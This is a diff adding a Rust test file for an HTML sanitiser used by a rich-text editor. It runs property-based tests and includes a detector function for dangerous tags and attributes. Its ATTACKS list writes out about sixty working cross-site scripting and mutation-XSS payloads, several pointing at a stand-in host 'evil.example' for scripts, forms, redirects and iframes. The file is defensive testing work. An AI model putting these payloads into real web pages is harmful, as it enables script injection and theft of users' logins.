@@ -1,0 +1,335 @@
+use proptest::prelude::*;
+
+use super::{DEEPEST, Removed, clean, tokens};
+
+/// What the editor emits, each kind of node and mark; all of it stays as it is.
+const EDITOR: &[&str] = &[
+    "<p></p>",
+    "<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>",
+    "<p>plain <strong>bold</strong> <em>slanted</em> <s>struck</s> <u>under</u> <code>code</code></p>",
+    "<p>H<sub>2</sub>O, E = mc<sup>2</sup>, <mark>marked</mark>, <small>small</small><br>next line&nbsp;&nbsp;here</p>",
+    r##"<p><mark data-color="#ffc078" style="background-color: #ffc078; color: inherit">marked</mark></p>"##,
+    r#"<p><span style="color: #958DF1">coloured</span> <span style="color: rgb(149, 141, 241)">too</span></p>"#,
+    r#"<p style="text-align: center">centred</p><h2 style="text-align: right">right</h2><p style="text-align: justify;">all</p>"#,
+    "<ul><li><p>one</p><ul><li><p>deeper</p></li></ul></li></ul><ol><li><p>two</p></li></ol>",
+    r#"<ol start="3" type="a"><li><p>three</p></li></ol>"#,
+    r#"<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/?a=1&amp;b=2#c">a link</a></p>"#,
+    r##"<p><a href="/stories/x" rel="noopener">here</a>, <a href="#top">up</a>, <a href="mailto:a@example.com">mail</a></p>"##,
+    r#"<img src="/uploads/a.webp" alt="a &quot;picture&quot;" title="t" width="1200" height="800" srcset="/uploads/a.webp 1200w, /uploads/a_750.webp 750w, /uploads/a_500.webp 500w" sizes="(max-width: 750px) 100vw, 750px" loading="lazy">"#,
+    r#"<figure data-type="figure"><img src="https://example.com/a.png" alt=""><figcaption>Said of it</figcaption></figure>"#,
+    r#"<figure><video src="/uploads/v.mp4" controls="" preload="metadata" width="1280" height="720" poster="/uploads/v.webp"></video></figure>"#,
+    r#"<video controls="true" muted="" loop="" playsinline=""><source src="/uploads/v.webm" type="video/webm"><source src="/uploads/v.mp4" type="video/mp4"></video>"#,
+    r#"<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" autoplay="false" disablekbcontrols="false" enableiframeapi="false" endtime="0" ivloadpolicy="0" loop="false" modestbranding="false" origin="" playlist="" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=7&amp;rel=1" start="7" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe></div>"#,
+    r#"<iframe src="https://player.vimeo.com/video/76979871" allow="autoplay; fullscreen; picture-in-picture" loading="lazy" title="film" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>"#,
+    "<pre><code class=\"language-rust\">fn main() {\n    let a = &amp;b &lt; c &amp;&amp; d &gt; e;\n}\n</code></pre><pre><code>\nblank line first</code></pre>",
+    r#"<pre><code class="language-c++">int a;</code></pre><pre class="language-objective-c"><code>x</code></pre>"#,
+    r#"<table style="min-width: 75px"><colgroup><col style="min-width: 25px"><col style="width: 200px"><col></colgroup><tbody><tr><th colspan="1" rowspan="1"><p>head</p></th><td colspan="2" rowspan="1" colwidth="100,200"><p style="text-align: right">cell</p></td></tr></tbody></table>"#,
+    "<table><caption>c</caption><thead><tr><th scope=\"col\">h</th></tr></thead><tbody><tr><td>d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>",
+    r#"<ul data-type="taskList"><li data-checked="true" data-type="taskItem"><label><input type="checkbox" checked="checked"><span></span></label><div><p>done</p></div></li><li data-checked="false" data-type="taskItem"><label><input type="checkbox" disabled=""><span></span></label><div><p>to do</p></div></li></ul>"#,
+    "<blockquote><p>said</p></blockquote><hr><p>a<br>b</p>",
+    r#"<p><span data-type="mention" data-id="ada" data-label="Ada" data-mention-suggestion-char="@">@Ada</span></p>"#,
+    r#"<details open=""><summary>More</summary><div data-type="detailsContent"><p>inside</p></div></details>"#,
+    r#"<p dir="rtl" lang="he">שלום</p><p>日本語 ☕ é &amp; &lt;b&gt;</p>"#,
+];
+
+#[test]
+fn what_the_editor_emits_stays_byte_for_byte() {
+    for html in EDITOR {
+        let cleaned = clean(html);
+        assert_eq!(cleaned.html, *html);
+        assert_eq!(cleaned.removed, [], "{html}");
+    }
+    let all = EDITOR.concat();
+    assert_eq!(clean(&all).html, all);
+}
+
+/// Ways to run a script, or to leave the page's frame.
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror\n=alert(1)//",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=\"javascript:alert(1)\">",
+    "<img srcset=\"javascript:alert(1) 1x\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\" \u{1}java\nscript:alert(1)\">x</a>",
+    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"vbscript:x\">x</a>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
+    "<iframe src=\"https://evil.example/embed/x\"></iframe>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<iframe><img src=x onerror=alert(1)></iframe>",
+    "<iframe src=\"https://www.youtube.com/embed/x\"><a title=\"</iframe><img src onerror=alert(1)>\"></iframe>",
+    "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">x",
+    "<iframe src=\"https://www.youtube.com@evil.example/embed/x\"></iframe>",
+    "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
+    "<iframe src=\"https://www.youtube.com/redirect?q=https://evil.example\"></iframe>",
+    "<iframe src=\"https://www.youtube.com/embed/../redirect\"></iframe>",
+    "<iframe src=\"//evil.example/embed/x\"></iframe>",
+    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
+    "<video><source onerror=\"alert(1)\"></video>",
+    "<video poster=\"javascript:alert(1)\" onloadstart=alert(1)></video>",
+    "<audio src=\"data:text/html,x\" onerror=alert(1)>",
+    "<p style=\"background:url(javascript:alert(1))\">x</p>",
+    "<p style=\"text-align: expression(alert(1))\">x</p>",
+    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
+    "<p class=\"fixed inset-0\" id=\"root\" name=\"x\">x</p>",
+    "<form action=\"https://evil.example\"><input name=password type=password><button formaction=\"javascript:alert(1)\">x</button></form>",
+    "<input type=\"image\" src=\"x\" onerror=\"alert(1)\"><input autofocus onfocus=alert(1)>",
+    "<base href=\"https://evil.example/\"><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1)><html onclick=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version=\"1.0\"?><x onclick=alert(1)>y</x>",
+    "<a href=\"https://evil.example\" target=\"_blank\" rel=\"opener\">x</a>",
+    "<a href=\"https://evil.example\" target=\"_blank\">x</a>",
+    "<a href=\"x\" target=\"main\" ping=\"https://evil.example\">x</a>",
+    "<div data-hx-get=\"/evil\" data-bs-toggle=x hx-on:click=alert(1) x-data=alert(1) @click=x>x</div>",
+    "<table><tr><td><a href='java&#x09;script:alert(1)'>x</table>",
+    "<p\u{0}onclick=alert(1)>x</p>",
+    "<q cite=\"javascript:alert(1)\">x</q>",
+];
+
+/// What must not be in a text that a browser reads.
+fn dangers(html: &str) -> Vec<String> {
+    // Everything between `<` and `>`: other text does nothing. Values hold neither.
+    let mut found = Vec::new();
+    for tag in
+        html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default().to_ascii_lowercase())
+    {
+        let name = tag.split([' ', '/']).next().unwrap_or_default().to_owned();
+        let attributes: Vec<_> = tag.split('"').step_by(2).map(|part| part.trim().to_owned()).collect();
+        let values: Vec<_> = tag.split('"').skip(1).step_by(2).collect();
+        let forbidden = [
+            "script", "style", "svg", "math", "object", "embed", "form", "base", "link", "meta", "template",
+            "button",
+        ];
+        let bad = forbidden.contains(&&*name)
+            || attributes.iter().any(|a| a.starts_with("on") || a.contains(" on") || a.starts_with("id="))
+            || attributes.iter().any(|a| a == "srcdoc=" || a.starts_with("x-") || a.starts_with("hx-"))
+            || values.iter().any(|v| {
+                v.trim().starts_with("javascript:")
+                    || v.starts_with("data:")
+                    || v.contains("evil.example/embed")
+            })
+            || (name == "iframe" && !tag.contains("sandbox="))
+            || (tag.contains("target=\"_blank\"") && !tag.contains("noopener"))
+            || (name == "input" && !tag.contains("type=\"checkbox\""));
+        if bad {
+            found.push(tag);
+        }
+    }
+    found
+}
+
+#[test]
+fn attacks_are_neutralised() {
+    for attack in ATTACKS {
+        let cleaned = clean(attack);
+        assert_eq!(dangers(&cleaned.html), Vec::<String>::new(), "{attack}\n{}", cleaned.html);
+        assert_eq!(clean(&cleaned.html).html, cleaned.html, "{attack}");
+        // Inside what stays, too.
+        let inside = clean(&format!("<ul><li><p>before {attack} after</p></li></ul>"));
+        assert_eq!(dangers(&inside.html), Vec::<String>::new(), "{attack}\n{}", inside.html);
+    }
+}
+
+#[test]
+fn what_was_removed_is_said() {
+    let said =
+        |html: &str| clean(html).removed.iter().map(ToString::to_string).collect::<Vec<_>>().join(", ");
+    let cases = [
+        ("<p>a</p><script>x</script><p onclick=x>b</p><b onclick=y>c</b>", "script;1, onclick;2"),
+        ("<script src=x defer></script>", "script;1"),
+        ("<iframe src=//evil.example onload=x></iframe>", "iframe;1, onload;1"),
+        ("<p style=\"text-align: left; position: fixed\">x</p>", "style;1"),
+        ("<p>a<!-- b --></p>", "comment;1"),
+        ("<a href=\"https://example.com\" target=_blank>x</a>", ""),
+        ("<table><tr><td>x</table>", ""),
+        ("a & b < c", ""),
+        ("<h\u{e9}llo>x</h\u{e9}llo><aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa>", "other;2"),
+        ("<x\r\nset-cookie:a=b>y", "x;1"),
+    ];
+    for (html, expected) in cases {
+        assert_eq!(said(html), expected, "{html}");
+    }
+}
+
+#[test]
+fn values_of_which_a_part_is_allowed_keep_that_part() {
+    for (html, kept) in [
+        ("<p style=\"top: 0; text-align: center\">x</p>", "<p style=\"text-align: center\">x</p>"),
+        ("<code class=\"big language-rust\">x</code>", "<code class=\"language-rust\">x</code>"),
+        ("<a rel=\"opener ugc\">x</a>", "<a rel=\"ugc noopener\">x</a>"),
+        (
+            "<a href=\"/x\" target=\"_blank\">x</a>",
+            "<a href=\"/x\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
+        ),
+        (
+            "<iframe src=\"https://player.vimeo.com/video/1\" allow=\"camera; autoplay 'src'\">x</iframe>",
+            "<iframe src=\"https://player.vimeo.com/video/1\" allow=\"autoplay 'src'\" \
+             sandbox=\"allow-scripts allow-same-origin allow-presentation allow-popups\"></iframe>",
+        ),
+        ("<article><p>x</p></article>", "<p>x</p>"),
+    ] {
+        assert_eq!(clean(html).html, kept);
+    }
+}
+
+#[test]
+fn what_does_not_settle_is_reduced_to_its_text() {
+    // Each reading lifts one table out of another, so that no few passes bring it to rest.
+    let html = format!("{}x{}", "<table><a>".repeat(200), "</a></table>".repeat(200));
+    let cleaned = clean(&html);
+    assert_eq!(clean(&cleaned.html).html, cleaned.html);
+    assert!(cleaned.html.contains('x'));
+    assert_eq!(Removed { name: "a".into(), count: 1 }.to_string(), "a;1");
+}
+
+/// The longest content there is, of nothing but one tag.
+#[test]
+fn deep_nesting_is_no_trouble() {
+    for tag in
+        ["<b>", "<p>", "<ul><li>", "<table>", "<a>", "<div>", "<table><a>", "<svg>", "<font>", "<i><p>"]
+    {
+        let cleaned = clean(&tag.repeat(50_000 / tag.len()));
+        assert_eq!(clean(&cleaned.html).html, cleaned.html, "{tag}");
+        assert!(tokens::depth(&cleaned.html) <= DEEPEST, "{tag}");
+    }
+    let lists = format!("{}<p>x</p>{}", "<ul><li>".repeat(40), "</li></ul>".repeat(40));
+    assert_eq!(clean(&lists).html, lists);
+}
+
+fn pieces() -> impl Strategy<Value = String> {
+    let words = [
+        "<p>",
+        "</p>",
+        "<b>",
+        "</b>",
+        "<i>",
+        "</i>",
+        "<a href=/x>",
+        "<a target=_blank>",
+        "</a>",
+        "<table>",
+        "</table>",
+        "<tr>",
+        "<td>",
+        "</td>",
+        "<caption>",
+        "<col>",
+        "<pre>",
+        "</pre>",
+        "\n",
+        "\r",
+        "&#13;",
+        "&#0;",
+        "\0",
+        "<ul>",
+        "<li>",
+        "</ul>",
+        "<h1>",
+        "<h2>",
+        "<br>",
+        "</br>",
+        "<hr>",
+        "<svg>",
+        "</svg>",
+        "<math>",
+        "<mtext>",
+        "<mglyph>",
+        "<style>",
+        "</style>",
+        "<script>",
+        "</script>",
+        "<iframe>",
+        "<iframe src=https://www.youtube.com/embed/x>",
+        "</iframe>",
+        "<noscript>",
+        "</noscript>",
+        "<textarea>",
+        "</textarea>",
+        "<title>",
+        "<select>",
+        "<option>",
+        "<input>",
+        "<input type=checkbox>",
+        "<form>",
+        "</form>",
+        "<template>",
+        "<img src=x onerror=y>",
+        "<!--",
+        "-->",
+        "--!>",
+        "<![CDATA[",
+        "]]>",
+        "&lt;",
+        "&amp",
+        "&nbsp;",
+        "<",
+        ">",
+        "\"",
+        "'",
+        "=",
+        " ",
+        "x",
+        "<details>",
+        "<summary>",
+        "<figure>",
+        "<video src=/v>",
+        "</div>",
+        "<div style='text-align:left;x'>",
+        "<code class='language-a b'>",
+        "<plaintext>",
+        "<frameset>",
+        "<body a=b>",
+        "<nobr>",
+        "<button>",
+        "<ruby>",
+        "<rt>",
+        "<dd>",
+        "<dt>",
+        "<xmp>",
+        "<foreignObject>",
+        "<desc>",
+        "<p title='<img>'>",
+    ];
+    let word = prop_oneof![
+        8 => prop::sample::select(words.to_vec()).prop_map(str::to_owned),
+        2 => prop::sample::select(EDITOR.to_vec()).prop_map(str::to_owned),
+        2 => prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned),
+        1 => "\\PC{0,8}",
+    ];
+    prop::collection::vec(word, 0..24).prop_map(|words| words.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 1500, ..ProptestConfig::default() })]
+
+    #[test]
+    fn a_second_cleaning_changes_nothing(html in pieces()) {
+        let once = clean(&html);
+        let twice = clean(&once.html);
+        prop_assert_eq!(&once.html, &twice.html);
+        prop_assert_eq!(twice.removed, vec![]);
+        prop_assert_eq!(dangers(&once.html), Vec::<String>::new());
+    }
+}
